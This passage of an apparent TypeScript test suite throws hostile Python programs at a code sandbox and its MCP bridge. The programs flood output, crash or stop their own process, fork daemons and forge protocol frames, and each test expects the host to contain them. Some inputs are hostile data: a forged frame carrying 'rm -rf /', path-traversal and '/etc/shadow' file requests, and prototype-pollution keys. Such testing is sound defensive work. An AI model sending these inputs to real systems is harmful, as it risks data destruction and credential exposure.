    expect: {
      status: 'ok',
      check: (run) => {
        const outcome = run.outcome as RunOutcome;
        expect(outcome.stdout.startsWith('HEAD\n')).toBe(true);
        expect(outcome.stdout.endsWith('TAIL\n')).toBe(true);
        expect(outcome.truncated?.stdout).toBeGreaterThan(49_000_000);
        expect(JSON.stringify(run.result).length).toBeLessThan(100_000);
      },
    },
  },
  {
    name: 'caps a 20 MB flood on stderr',
    category: 'resources',
    timeout: 60,
    code: 'import sys\nfor _ in range(20):\n    sys.stderr.write("e" * 1_000_000)\nprint("done")',
    expect: {
      status: 'ok',
      stdout: 'done\n',
      check: (run) => expect(run.outcome?.truncated?.stderr).toBeGreaterThan(19_000_000),
    },
  },
  {
    name: 'caps one 30 MB line without a newline',
    category: 'resources',
    timeout: 60,
    code: 'import os\nfor _ in range(30):\n    os.write(1, b"y" * 1_000_000)',
    expect: {
      status: 'ok',
      check: (run) => {
        expect(run.outcome?.stdout).toMatch(/^y+\n… \[[\d,]+ characters elided\] …\ny+$/);
        expect(run.outcome?.truncated?.stdout).toBeGreaterThan(29_000_000);
      },
    },
  },
  {
    name: 'passes binary junk written to fd 1 on as text, without breaking the frames',
    category: 'resources',
    code: 'import os\nos.write(1, os.urandom(1 << 20))\n_ = os.write(1, b"\\nafter the junk\\n")',
    expect: {
      status: 'ok',
      check: (run) => {
        expect(run.outcome?.stdout).toContain('\uFFFD');
        expect(run.outcome?.stdout.endsWith('\nafter the junk\n')).toBe(true);
      },
    },
  },
  {
    name: 'replaces invalid UTF-8 and keeps a character split across writes whole',
    category: 'resources',
    code: python`
import sys
sys.stdout.buffer.write(b"\xe2\x82")
sys.stdout.flush()
sys.stdout.buffer.write(b"\xac ok \xff\xfe\n")
sys.stdout.flush()
`,
    expect: { status: 'ok', stdout: '€ ok \uFFFD\uFFFD\n' },
  },
  {
    name: 'reports endless recursion as RecursionError',
    category: 'resources',
    code: 'def f():\n    return f()\nf()',
    expect: { status: 'error', error: /^RecursionError: maximum recursion depth exceeded/ },
  },
  {
    name: 'ends a C-stack overflow (recursion limit raised, deep repr) with a clear status',
    category: 'resources',
    timeout: 60,
    code: 'import sys\nsys.setrecursionlimit(10**8)\nvalue = []\nfor _ in range(10**6):\n    value = [value]\nrepr(value)',
    expect: (context) =>
      context.container
        ? { status: 'killed', error: /The sandbox ended unexpectedly \(exit code 139\)/ }
        : { status: ['killed', 'error'], error: /worker crashed: RangeError|RecursionError|MemoryError/ },
  },
  {
    name: 'sends itself SIGKILL',
    category: 'resources',
    code: (context) => `print("before", flush=True)\n${killSelf(context)}\nprint("not reached")`,
    expect: (context) => ({
      status: 'killed',
      // SIGKILL (137) is what the kernel's OOM killer sends, hence the bridge's memory hint.
      error: memoryHint(context),
    }),
  },
  {
    name: 'stops itself with SIGSTOP: killed at its timeout',
    category: 'resources',
    timeout: 3,
    code: (context) =>
      context.container
        ? 'import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)'
        : 'import js\njs.Deno.kill(js.Deno.pid, "SIGSTOP")',
    expect: { status: 'timeout' },
  },
  {
    name: 'crashes itself with a NULL dereference',
    category: 'resources',
    backends: CONTAINERS,
    code: 'import ctypes\nprint("before", flush=True)\nctypes.string_at(0)',
    expect: { status: 'killed', error: /exit code 139/ },
  },
  {
    name: 'leaves a pile of zombie children',
    category: 'resources',
    backends: CONTAINERS,
    code: python`
import os
for _ in range(40):
    if os.fork() == 0:
        os._exit(0)
import time
time.sleep(0.5)
states = [open(f"/proc/{pid}/stat").read().rsplit(") ", 1)[1][0] for pid in os.listdir("/proc") if pid.isdigit()]
print(states.count("Z") > 0)
`,
    expect: { status: 'ok', stdout: 'True\n' },
  },
  {
    name: 'leaves a double-forked daemon behind',
    category: 'resources',
    backends: CONTAINERS,
    code: python`
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(3, 1024)
        time.sleep(600)
    os._exit(0)
os.wait()
print("parent done")
`,
    expect: { status: 'ok', stdout: 'parent done\n' },
  },
  {
    name: 'leaves a child that keeps writing to stdout after the program ended',
    category: 'resources',
    backends: CONTAINERS,
    code: python`
import subprocess
subprocess.Popen(["sh", "-c", "while true; do echo tick; sleep 0.05; done"])
print("program done", flush=True)
`,
    expect: { status: 'ok', stdout: /program done\n/ },
  },
  {
    name: 'registers an atexit hook that never returns',
    category: 'resources',
    code: 'import atexit\natexit.register(lambda: [None for _ in iter(int, 1)])\nprint("registered")',
    expect: { status: 'ok', stdout: 'registered\n' },
  },
  {
    name: 'leaves a non-daemon thread running forever',
    category: 'resources',
    backends: CONTAINERS,
    code: 'import threading, time\nthreading.Thread(target=lambda: time.sleep(3600)).start()\nprint("started")',
    expect: { status: 'ok', stdout: 'started\n' },
  },
  {
    name: 'leaves an asyncio task that refuses to be cancelled',
    category: 'resources',
    code: python`
import asyncio
async def stubborn():
    while True:
        try:
            await asyncio.sleep(10)
        except asyncio.CancelledError:
            pass
asyncio.ensure_future(stubborn())
await asyncio.sleep(0)
print("main done")
`,
    expect: { status: 'ok', stdout: 'main done\n' },
  },
  {
    name: 'raises an exception with a 1 MB message',
    category: 'resources',
    code: 'raise ValueError("m" * 1_000_000)',
    expect: {
      status: 'error',
      // Cut to what the host accepts, head and tail kept (the runtime's done frame stays under 64 KiB).
      error: /^ValueError: m+\n\.\.\. \[\d+ characters elided\] \.\.\.\nm+$/,
    },
  },
  {
    name: 'raises an exception whose __str__ raises',
    category: 'resources',
    code: 'class Evil(Exception):\n    def __str__(self):\n        raise RuntimeError("no")\nraise Evil()',
    expect: { status: 'error', error: /^Evil/ },
  },
  {
    name: 'ends with a final expression whose repr is 20 MB',
    category: 'resources',
    timeout: 60,
    code: '"z" * 20_000_000',
    expect: {
      status: 'ok',
      check: (run) => expect(run.outcome?.truncated?.stdout).toBeGreaterThan(19_000_000),
    },
  },
  {
    name: 'reads stdin, which is empty',
    category: 'resources',
    code: 'input()',
    expect: { status: 'error', error: /^EOFError/ },
  },
  {
    name: 'prints 20,000 short lines',
    category: 'resources',
    timeout: 60,
    code: 'for i in range(20_000):\n    print(i)',
    expect: {
      status: 'ok',
      check: (run) => {
        expect(run.outcome?.stdout.startsWith('0\n1\n2\n')).toBe(true);
        expect(run.outcome?.stdout.endsWith('19998\n19999\n')).toBe(true);
      },
    },
  },
];

// -------------------------------------------------------------------------------------------- protocol

/** A run that forges `payload` (a Python bytes expression) on the channel, then waits to be ended. */
function forgeCase(name: string, payload: string, error: RegExp, stdout = ''): HostileCase {
  return {
    name: `ends the run on ${name} and keeps serving`,
    category: 'protocol',
    timeout: 20,
    code: (context) =>
      `${forge(context)}\nforge(${payload})\nimport time\ntime.sleep(5)\nprint("not reached")`,
    expect: { status: 'protocol_error', error, stdout },
  };
}

const PROTOCOL: HostileCase[] = [
  forgeCase('a line that is not JSON', 'b"this is not json\\n"', /not JSON/),
  forgeCase('a frame of an unknown type', 'b\'{"type":"exec","cmd":"rm -rf /"}\\n\'', /invalid frame/),
  forgeCase(
    'a frame with a wrong field type',
    'b\'{"type":"out","stream":"stdout","data":42}\\n\'',
    /invalid frame at data/,
  ),
  forgeCase(
    'a frame nested too deeply',
    'b\'{"type":"out","x":\' + b"[" * 1000 + b"]" * 1000 + b"}\\n"',
    /nested deeper/,
  ),
  forgeCase('a frame larger than the cap', 'b"[" + b" " * (9 * 1024 * 1024)', /larger than/),
  forgeCase('a second ready', 'b\'{"type":"ready"}\\n\'', /ready' twice/),
  forgeCase(
    'a done whose error is over 64 KiB',
    'b\'{"type":"done","ok":false,"error":"\' + b"e" * 70000 + b\'"}\\n\'',
    /invalid frame at error/,
  ),
  forgeCase(
    'a request id beyond 2^53',
    'b\'{"type":"call","id":9007199254740993,"op":"list_servers","args":{}}\\n\'',
    /invalid frame at id/,
  ),
  forgeCase(
    'a negative request id',
    'b\'{"type":"call","id":-1,"op":"list_servers","args":{}}\\n\'',
    /invalid frame at id/,
  ),
  forgeCase(
    'a fractional request id',
    'b\'{"type":"rpc","id":1.5,"server":"shapes","tool":"quick","args":{}}\\n\'',
    /invalid frame at id/,
  ),
  forgeCase(
    'a string request id',
    'b\'{"type":"call","id":"1","op":"list_servers","args":{}}\\n\'',
    /invalid frame at id/,
  ),
  forgeCase(
    'tool arguments that are not an object',
    'b\'{"type":"rpc","id":3,"server":"shapes","tool":"quick","args":[1,2]}\\n\'',
    /invalid frame at args/,
  ),
  forgeCase(
    'a server name over 256 characters',
    'b\'{"type":"rpc","id":3,"server":"\' + b"s" * 300 + b\'","tool":"quick","args":{}}\\n\'',
    /invalid frame at server/,
  ),
  forgeCase(
    'a reply frame of its own (replying to itself)',
    'b\'{"type":"rpc_result","id":1,"ok":true,"value":"forged"}\\n\'',
    /invalid frame/,
  ),
  forgeCase(
    "a run frame (the host's own kind)",
    'b\'{"type":"run","id":"x","code":"print(1)","servers":[],"catalog":[]}\\n\'',
    /invalid frame/,
  ),
  forgeCase(
    'garbage between two valid frames',
    'b\'{"type":"out","stream":"stdout","data":"before\\\\n"}\\n#garbage\\n{"type":"out","stream":"stdout","data":"after\\\\n"}\\n\'',
    /not JSON/,
    // What came before the bad line counts, even in the same write.
    'before\n',
  ),
  {
    name: 'takes a forged done as the end of its own run only',
    category: 'protocol',
    code: (context) =>
      `${forge(context)}\nforge(b'{"type":"done","ok":true}\\n')\nimport time\ntime.sleep(30)`,
    expect: { status: 'ok', stdout: '' },
  },
  {
    name: 'ignores frames after a forged done',
    category: 'protocol',
    code: (context) =>
      `${forge(context)}\nforge(b'{"type":"done","ok":true}\\n{"type":"out","stream":"stdout","data":"late"}\\nnot json\\n')\nimport time\ntime.sleep(30)`,
    expect: { status: 'ok', stdout: '' },
  },
  {
    name: 'reports a forged failing done as its own error',
    category: 'protocol',
    code: (context) =>
      `${forge(context)}\nforge(b'{"type":"done","ok":false,"error":"ForgedError: as the program says"}\\n')\nimport time\ntime.sleep(30)`,
    expect: { status: 'error', error: /^ForgedError: as the program says$/ },
  },
  {
    name: 'refuses a forged tool call to a server the run was not granted',
    category: 'protocol',
    servers: ['shapes'],
    code: `${GRAB_CHANNEL}\nfor server in ("leaky", "secrets", "__proto__", "constructor", "hasOwnProperty"):\n    try:\n        await channel.request({"type": "rpc", "server": server, "tool": "token_result", "args": {}})\n    except Exception as error:\n        print(type(error).__name__, error)`,
    expect: {
      status: 'ok',
      check: (run) => {
        const lines = (run.outcome?.stdout ?? '').trimEnd().split('\n');
        expect(lines).toHaveLength(5);
        for (const line of lines)
          expect(line).toMatch(/^ToolError server '[^']+' is not granted to this run/);
      },
    },
  },
  {
    name: 'refuses unknown host operations, also the names of Object.prototype',
    category: 'protocol',
    code: `${GRAB_CHANNEL}\nfor op in ("read_host_file", "__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "__defineGetter__"):\n    try:\n        await channel.request({"type": "call", "op": op, "args": {"path": "/etc/shadow"}})\n    except Exception as error:\n        print(error)`,
    expect: {
      status: 'ok',
      stdout:
        "unknown host operation 'read_host_file'\nunknown host operation '__proto__'\nunknown host operation 'constructor'\nunknown host operation 'toString'\nunknown host operation 'hasOwnProperty'\nunknown host operation 'valueOf'\nunknown host operation '__defineGetter__'\n",
    },
  },
  {
    name: 'answers reused request ids without mixing them into its own calls',
    category: 'protocol',
    servers: ['shapes'],
    code: (context) =>
      `${forge(context)}\nframe = b'{"type":"rpc","id":777,"server":"shapes","tool":"quick","args":{"n":99}}\\n'\nforge(frame * 3)\nimport asyncio\nprint(await asyncio.gather(*[mcp_shapes.quick(n=i) for i in range(5)]))`,
    expect: { status: 'ok', stdout: '[0, 1, 2, 3, 4]\n' },
  },
  {
    name: 'takes frames with a __proto__ key as plain data (no prototype pollution)',
    category: 'protocol',
    code: (context) =>
      `${forge(context)}\nforge(b'{"type":"out","stream":"stdout","data":"plain\\\\n","__proto__":{"polluted":true}}\\n')\nforge(b'{"type":"call","id":4242,"op":"list_servers","args":{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}}\\n')\n${GRAB_CHANNEL}\nprint(len(await channel.request({"type": "call", "op": "list_servers", "args": {"__proto__": {"isAdmin": True}}})) > 0)`,
    expect: { status: 'ok', stdout: 'plain\nTrue\n' },
  },
  {
    name: 'takes the last of duplicate keys, as JSON.parse does, and nothing else',
    category: 'protocol',
    code: (context) =>
      `${forge(context)}\nforge(b'{"type":"out","stream":"stderr","stream":"stdout","data":"first","data":"second\\\\n"}\\n')\nprint("after")`,
    expect: { status: 'ok', stdout: 'second\nafter\n' },
  },
  {
    name: 'reads a frame written one byte at a time, blank lines and CRLF endings',
    category: 'protocol',
    code: (context) =>
      `${forge(context)}\nfor byte in b'\\n\\r\\n  \\n{"type":"out","stream":"stdout","data":"slow\\\\n"}\\r\\n':\n    forge(bytes([byte]))\nprint("after")`,
    expect: { status: 'ok', stdout: 'slow\nafter\n' },
  },
  {
    name: 'takes a valid frame just under the size cap',
    category: 'protocol',
    timeout: 60,
    code: (context) =>
      `${forge(context)}\nforge(b'{"type":"out","stream":"stdout","data":"' + b"f" * (8 * 1024 * 1024 - 100) + b'"}\\n')\nprint("after")`,
    expect: {
      status: 'ok',
      check: (run) => {
        expect(run.outcome?.stdout.endsWith('fafter\n')).toBe(true);
        expect(run.outcome?.truncated?.stdout).toBeGreaterThan(8_000_000);
      },
    },
  },
  {
    name: 'takes invalid UTF-8 inside a frame as replacement characters',
    category: 'protocol',
    code: (context) =>
      `${forge(context)}\nforge(b'{"type":"out","stream":"stdout","data":"bad \\xff\\xfe bytes\\\\n"}\\n')\nprint("after")`,
    expect: { status: 'ok', stdout: 'bad \uFFFD\uFFFD bytes\nafter\n' },
  },
  {
    name: 'ends the run on half a frame that the runtime then completes',
    category: 'protocol',
    code: (context) => `${forge(context)}\nforge(b'{"type":"out"')\nprint("flush")`,
    expect: { status: 'protocol_error', error: /not JSON|invalid frame/ },
  },
  {
    name: 'half a frame, then the process dies',
    category: 'protocol',
    code: (context) => `${forge(context)}\nforge(b'{"type":"out","stream":"std')\n${killSelf(context)}`,
    expect: { status: 'killed' },
  },
  {
    name: 'a forked child writes garbage on the channel: ends the run of its parent',
    category: 'protocol',
    backends: CONTAINERS,
    code: (context) =>
      `${forge(context)}\nimport os, time\nif os.fork() == 0:\n    forge(b"garbage from a child\\n")\n    os._exit(0)\nos.wait()\ntime.sleep(5)\nprint("not reached")`,
    expect: { status: 'protocol_error', error: /not JSON/ },
  },
  {
    name: 'a subprocess cannot reach the channel: its descriptor is closed on exec',
    category: 'protocol',
    backends: CONTAINERS,
    code: (context) =>
      `${forge(context)}\nimport subprocess\nresult = subprocess.run(["sh", "-c", "echo '{\\"type\\":\\"done\\",\\"ok\\":true}' >&%d" % proto], capture_output=True, text=True)\nprint(result.returncode != 0, "Bad file descriptor" in result.stderr)\nprint("still running")`,
    expect: { status: 'ok', stdout: 'True True\nstill running\n' },
  },
  {
    name: 'reopening the channel through /proc/self/fd gains nothing the host would trust',
    category: 'protocol',
    backends: CONTAINERS,
    code: (context) =>
      `${forge(context)}\nimport errno, time\ntry:\n    reopened = os.open("/proc/self/fd/%d" % proto, os.O_WRONLY)\nexcept OSError as error:\n    print("refused", errno.errorcode[error.errno])\nelse:\n    os.write(reopened, b"forged through /proc/self/fd\\n")\n    time.sleep(5)`,
    // runc: the channel is a socket, which open() refuses; gVisor: it is the stdio pipe, which opens,
    // and what is written there is validated like any frame.
    expect: (context) =>
      context.gvisor
        ? { status: 'protocol_error', error: /not JSON/ }
        : { status: 'ok', stdout: 'refused ENXIO\n' },
  },
  {
    name: 'floods 200,000 forged out frames',
    category: 'protocol',
    timeout: 60,
    code: (context) =>
      `${forge(context)}\nframe = b'{"type":"out","stream":"stdout","data":"x"}\\n'\nfor _ in range(4):\n    forge(frame * 50_000)\nprint("\\nafter")`,
    expect: {
      status: 'ok',
      check: (run) => {
        expect(run.outcome?.stdout.endsWith('x\nafter\n')).toBe(true);
        expect(run.outcome?.truncated?.stdout).toBeGreaterThan(150_000);
      },
    },
  },
  {
    name: 'floods requests without reading the replies',
    category: 'protocol',
    timeout: 5,
    code: `${GRAB_CHANNEL}\nwhile True:\n    channel._send({"type": "call", "id": 1, "op": "list_servers", "args": {}})`,
    expect: { status: ['timeout', 'protocol_error'] },
  },
  {
    name: 'sends 5,000 requests at once and awaits them all (beyond the host queue bound)',
    category: 'protocol',
    timeout: 60,
    code: `${GRAB_CHANNEL}\nimport asyncio\nreplies = await asyncio.gather(*[channel.request({"type": "call", "op": "list_servers", "args": {}}) for _ in range(5000)])\nprint(len(replies))`,
    expect: { status: 'ok', stdout: '5000\n' },
  },
  {
    name: 'closes the channel under the runtime',
    category: 'protocol',
    code: (context) =>
      context.container
        ? `${forge(context)}\nreader = next(o for o in gc.get_objects() if type(o).__name__ == "LineReader")\nos.close(proto)\nos.close(reader._fd)\nprint("closed")`
        : 'import js\njs.Deno.stdout.close()\nprint("closed")',
    expect: { status: 'killed', error: /ended unexpectedly/ },
  },

  // embedded: the worker's own JavaScript is in reach
  {
    name: "reads the worker's stdin: steals only its own run's replies",
    category: 'protocol',
    backends: EMBEDDED,
    servers: ['shapes'],
    timeout: 3,
    code: python`
import asyncio, js
reader = js.Deno.stdin.readable.getReader()
async def steal():
    while True:
        chunk = await reader.read()
        if chunk.done:
            return
asyncio.ensure_future(steal())
print(await mcp_shapes.quick(n=1))
`,
    expect: { status: ['timeout', 'error'] },
  },
  {
    name: "replaces the worker's stdout writer: its own run ends without a result",
    category: 'protocol',
    backends: EMBEDDED,
    timeout: 5,
    code: 'import js\njs.Deno.stdout.writeSync = js.Function.new("bytes", "return bytes.length")\nprint("swallowed")',
    expect: { status: ['killed', 'timeout'] },
  },
  {
    name: 'replaces JSON.stringify in the worker: its frames become garbage the host refuses',
    category: 'protocol',
    backends: EMBEDDED,
    code: 'import js\njs.JSON.stringify = js.Function.new("value", "return \'not a frame\'")\nprint("garbled")',
    expect: { status: 'protocol_error', error: /not JSON/ },
  },
];

// -------------------------------------------------------------------------------------------- host-ops

/** `call(op, args)`: a host operation sent as a raw `call` frame; prints `code: message` on refusal. */
const HOST_CALL = python`
${GRAB_CHANNEL}
async def call(op, args):
    try:
        return await channel.request({"type": "call", "op": op, "args": args})
    except Exception as error:
        return "%s: %s" % (getattr(error, "code", type(error).__name__), error)
`;

/** Saves made by a case; the store must be empty of them afterwards. */
const SKILL_NAMES_RE = /^(hostile_|os$|print$)/;

const HOST_OPS: HostileCase[] = [
  {
    name: 'refuses a search query over the cap, naming the limit',
    category: 'host-ops',
    code: `${HOST_CALL}\nprint(await call("search_tool_docs", {"query": "read a file " * 30000}))\nprint(await call("search_tool_docs", {"query": "q" * 2001}))`,
    expect: {
      status: 'ok',
      stdout:
        'BAD_ARGUMENTS: the query is 360,000 characters; the limit is 2,000. Describe the task in a sentence or a few keywords.\nBAD_ARGUMENTS: the query is 2,001 characters; the limit is 2,000. Describe the task in a sentence or a few keywords.\n',
    },
  },
  {
    name: 'answers search queries of the wrong type as empty ones',
    category: 'host-ops',
    code: `${HOST_CALL}\nfor query in ({"$gt": ""}, ["read"] * 10000, 10**300, None, True):\n    answer = await call("search_tool_docs", {"query": query})\n    print(type(answer).__name__, sorted(answer) if isinstance(answer, dict) else answer)`,
    expect: {
      status: 'ok',
      check: (run) => {
        const lines = (run.outcome?.stdout ?? '').trimEnd().split('\n');
        expect(lines).toEqual(Array(5).fill("dict ['hits', 'unavailable']"));
      },
    },
  },
  {
    name: 'caps a huge, negative or nonsense search limit',
    category: 'host-ops',
    code: `${HOST_CALL}\nfor limit in (10**12, -5, "NaN", 1e308, True, {"a": 1}, 2**53 + 1):\n    answer = await call("search_tool_docs", {"query": "tool", "limit": limit})\n    print(len(answer["hits"]) if isinstance(answer, dict) else answer)`,
    expect: {
      status: 'ok',
      check: (run) => {
        const counts = (run.outcome?.stdout ?? '').trimEnd().split('\n').map(Number);
        expect(counts).toHaveLength(7);
        for (const count of counts) expect(count).toBeLessThanOrEqual(50);
      },
    },
  },
  {
    name: 'refuses server names with NUL, path traversal, huge length or the wrong type',
    category: 'host-ops',
    code: `${HOST_CALL}\nfor name in ("mem\\0ory", "../../etc/passwd", "/etc/shadow", "s" * 10000, "", 42, None, ["shapes"], {"toString": 1}):\n    print(await call("describe_server", {"name": name}))`,
    expect: {
      status: 'ok',
      check: (run) => {
        const lines = (run.outcome?.stdout ?? '').trimEnd().split('\n');
        expect(lines).toHaveLength(9);
        for (const line of lines) expect(line).toMatch(/^(UNKNOWN_SERVER|BAD_ARGUMENTS): /);
        expect(lines[3]).toMatch(/'name' is 10,000 characters; the limit is 256/);
      },
    },
  },
  {
    name: 'asks to describe unknown servers 2,000 times',
    category: 'host-ops',
    timeout: 60,
    code: `${HOST_CALL}\ncodes = set()\nfor i in range(2000):\n    codes.add((await call("describe_server", {"name": "ghost-%d" % i})).split(":")[0])\nprint(codes)`,
    expect: { status: 'ok', stdout: "{'UNKNOWN_SERVER'}\n" },
  },
  {
    name: 'asks to describe a real server 1,000 times at once',
    category: 'host-ops',
    timeout: 60,
    code: `${HOST_CALL}\nimport asyncio\nanswers = await asyncio.gather(*[call("describe_server", {"name": "shapes"}) for _ in range(1000)])\nprint(len(answers), {answer["name"] for answer in answers})`,
    expect: { status: 'ok', stdout: "1000 {'shapes'}\n" },
  },
  {
    name: 'sends a 7 MB argument object to a host operation',
    category: 'host-ops',
    code: `${HOST_CALL}\nanswer = await call("list_servers", {"padding": "p" * (7 * 1024 * 1024)})\nprint(len(answer) > 0)`,
    expect: { status: 'ok', stdout: 'True\n' },
  },
  {
    name: 'refuses skills with bad names, bypassing the sandbox-side checks',
    category: 'host-ops',
    code: python`
${HOST_CALL}
source = lambda name: "def %s():\n    return 1\n" % name
for name in ("hostile\0x", "../hostile_up", "hostile/x", "os", "print", "mcp_hostile", "h" * 65, "ünïcode", "", "1abc", 42, None, {"toString": 1}):
    print(await call("save_skill", {"name": name, "source": source(name if isinstance(name, str) else "x")}))
`,
    expect: (context) => ({
      status: 'ok',
      check: (run) => {
        const lines = (run.outcome?.stdout ?? '').trimEnd().split('\n');
        expect(lines).toHaveLength(13);
        for (const line of lines) expect(line).toMatch(/^INVALID_SKILL: cannot save a skill named /);
        expect(context.skillFiles().filter((name) => SKILL_NAMES_RE.test(name))).toEqual([]);
      },
    }),
  },
  {
    name: 'refuses skill sources that are oversize, hold NUL or a lone surrogate, or define another name',
    category: 'host-ops',
    code: python`
${HOST_CALL}
name = "hostile_source"
for source in ("def hostile_source():\n    return 1\n" + "#" * 70000, "def hostile_source():\n    return '\0'\n",
               "def hostile_source():\n    return '\ud800'\n", "def other():\n    return 1\n", "", 42):
    print(await call("save_skill", {"name": name, "source": source}))
`,
    expect: (context) => ({
      status: 'ok',
      check: (run) => {
        const lines = (run.outcome?.stdout ?? '').trimEnd().split('\n');
        expect(lines).toHaveLength(6);
        for (const line of lines) expect(line).toMatch(/^INVALID_SKILL: skill 'hostile_source': /);
        expect(context.skillFiles()).not.toContain('hostile_source');
      },
    }),
  },
  {
    name: 'saves skills in a loop: stopped at 64 per run, and deletes them again',
    category: 'host-ops',
    timeout: 60,
    code: python`
${HOST_CALL}
results = []
for i in range(66):
    name = "hostile_flood_%d" % i
    answer = await call("save_skill", {"name": name, "source": "def %s():\n    return %d\n" % (name, i)})
    results.append("saved" if isinstance(answer, dict) else answer)
print(results.count("saved"), results[-1])
deleted = [await call("delete_skill", {"name": "hostile_flood_%d" % i}) for i in range(64)]
print(sum(isinstance(answer, dict) for answer in deleted))
`,
    expect: (context) => ({
      status: 'ok',
      stdout: '64 SKILL_LIMIT: a run may save at most 64 skills\n64\n',
      check: () => expect(context.skillFiles().filter((name) => name.startsWith('hostile_'))).toEqual([]),
    }),
  },
  {
    name: 'refuses to delete skills by path traversal or a bad version',
    category: 'host-ops',
    code: python`
${HOST_CALL}
for args in ({"name": "../../../etc/passwd"}, {"name": ".."}, {"name": "."}, {"name": "/"}, {"name": "a/b"},
             {"name": "x" * 65}, {"name": 42}, {"name": "hostile_none", "version": -1},
             {"name": "hostile_none", "version": 1.5}, {"name": "hostile_none", "version": 10**10},
             {"name": "hostile_none", "version": "1"}):
    print(await call("delete_skill", args))
`,
    expect: (context) => ({
      status: 'ok',
      check: (run) => {
        const lines = (run.outcome?.stdout ?? '').trimEnd().split('\n');
        expect(lines).toHaveLength(11);
        for (const line of lines) expect(line).toMatch(/^BAD_ARGUMENTS: /);
        expect(existsSync(context.stateDir)).toBe(true);
      },
    }),
  },
  {
    name: 'calls unknown host operations 2,000 times',
    category: 'host-ops',
    timeout: 60,
    code: `${HOST_CALL}\nanswers = {await call("op_%d" % (i % 7), {}) for i in range(2000)}\nprint(len(answers), sorted(answers)[0])`,
    expect: { status: 'ok', stdout: "7 UNKNOWN_OPERATION: unknown host operation 'op_0'\n" },
  },
];

// -------------------------------------------------------------------------------------------- upstream

const UPSTREAM: HostileCase[] = [
  {
    name: 'a hanging tool fails at MCP_BRIDGE_CALL_TIMEOUT, and the program carries on',
    category: 'upstream',
    servers: ['hanging'],
    code: 'import mcp\ntry:\n    await mcp_hanging.hang()\nexcept mcp.ToolError as error:\n    print(error.code, "|", error)\nprint(await mcp_hanging.ok())',
    expect: {
      status: 'ok',
      stdout: "UPSTREAM_TIMEOUT | MCP server 'hanging' did not answer hang within 5 s\nfine\n",
    },
  },
  {
    name: 'a hanging tool the program does not guard ends it with the ToolError',
    category: 'upstream',
    servers: ['hanging'],
    code: 'await mcp_hanging.hang()',
    expect: { status: 'error', error: /ToolError: MCP server 'hanging' did not answer hang within 5 s/ },
  },
  {
    name: '40 calls to a hanging tool at once (beyond 32 in flight) until the run times out',
    category: 'upstream',
    servers: ['hanging'],
    timeout: 3,
    code: 'import asyncio\nawait asyncio.gather(*[mcp_hanging.hang() for _ in range(40)], return_exceptions=True)\nwhile True:\n    await asyncio.sleep(1)',
    expect: { status: 'timeout' },
  },
  {
    name: 'an upstream that crashes mid-call fails that call; the next call reconnects',
    category: 'upstream',
    servers: ['soak'],
    code: 'import mcp\nbefore = await mcp_soak.pid()\ntry:\n    await mcp_soak.crash()\nexcept mcp.ToolError as error:\n    print(error.code)\nafter = await mcp_soak.pid()\nprint(before != after)',
    expect: { status: 'ok', stdout: 'UPSTREAM_UNAVAILABLE\nTrue\n' },
  },
  {
    name: 'an upstream that spills its secret in errors and crashes: the program never sees it',
    category: 'upstream',
    servers: ['leaky'],
    code: 'import mcp\nfor tool in ("token_error", "token_throw", "crash"):\n    try:\n        await mcp_servers["leaky"][tool]()\n    except mcp.ToolError as error:\n        print(tool, error.code, "|", error)',
    expect: {
      status: 'ok',
      check: (run) => {
        const stdout = run.outcome?.stdout ?? '';
        expect(stdout).toMatch(/^token_error TOOL_ERROR \| bad token \[redacted\] \(rejected\)$/m);
        expect(stdout).toMatch(/^token_throw TOOL_ERROR \| .*cannot authenticate with \[redacted\]$/m);
        expect(stdout).toMatch(/^crash UPSTREAM_UNAVAILABLE \| .*token=\[redacted\]/m);
      },
    },
  },
  {
    name: 'a result nested 1,000 levels deep fails that call; 100 levels pass',
    category: 'upstream',
    servers: ['shapes'],
    code: 'import mcp\ntry:\n    await mcp_shapes.nested(depth=1000)\nexcept mcp.ToolError as error:\n    print("refused:", error)\nvalue = await mcp_shapes.nested(depth=100)\ndepth = 0\nwhile isinstance(value, list):\n    value, depth = value[0], depth + 1\nprint(depth)',
    expect: {
      status: 'ok',
      stdout: /^refused: the result is nested deeper than 256 levels; ask the tool for less.*\n100\n$/,
    },
  },
  {
    name: 'a result over the size cap (40 MB) fails that call only',
    category: 'upstream',
    servers: ['big'],
    timeout: 60,
    code: 'import mcp\ntry:\n    await mcp_big.big()\nexcept mcp.ToolError as error:\n    print(error.code, "|", error)\nprint(await mcp_big.pid() > 0)',
    expect: {
      status: 'ok',
      stdout:
        /^TOOL_ERROR \| big\.big failed: its result was \d+ bytes, over the bridge's limit of 33554432 bytes for one upstream message\. .*\nTrue\n$/,
    },
  },
  {
    name: 'an 8 MB result under the cap arrives whole',
    category: 'upstream',
    servers: ['shapes'],
    timeout: 60,
    code: 'print(len(await mcp_shapes.blob(megabytes=8)))',
    expect: { status: 'ok', stdout: `${8 * 1024 * 1024}\n` },
  },
  {
    name: 'a server whose tools/list fails: the run is refused with the reason',
    category: 'upstream',
    servers: ['failing'],
    code: 'print("not reached")',
    expect: { status: 'refused', error: /failing.*tool catalogue is on fire/s },
  },
  {
    name: 'a server that cannot start: the run is refused without the secret in its command line',
    category: 'upstream',
    servers: ['ghost'],
    code: 'print("not reached")',
    expect: { status: 'refused', error: /Could not connect to MCP server 'ghost' .*\[redacted\]/ },
  },
  {
    name: 'a server that writes garbage to stdout between its messages still answers',
    category: 'upstream',
    servers: ['noisy'],
    // A text that is JSON comes back parsed: "7" as 7.
    code: 'for i in range(20):\n    assert await mcp_noisy.echo(text="t%d" % i) == "t%d" % i\nprint("answered")',
    expect: { status: 'ok', stdout: 'answered\n' },
  },
  {
    name: 'a server that floods stderr with 20 MB',
    category: 'upstream',
    servers: ['noisy'],
    timeout: 60,
    code: 'print(await mcp_noisy.stderr_flood(megabytes=20))',
    expect: { status: 'ok', stdout: 'wrote 20480 lines\n' },
  },
  {
    name: 'a server that sends 5,000 notifications during a call',
    category: 'upstream',
    servers: ['noisy'],
    timeout: 60,
    code: 'print(await mcp_noisy.notify_flood(count=5000))',
    expect: { status: 'ok', stdout: 'sent 5000\n' },
  },
  {
    name: 'a server that sends the bridge a request it never offered (sampling) gets an error back',
    category: 'upstream',
    servers: ['noisy'],
    code: 'answer = await mcp_noisy.ask_client()\nprint(sorted(answer), answer["error"]["code"])',
    expect: { status: 'ok', stdout: "['error', 'id', 'jsonrpc'] -32601\n" },
  },
  {
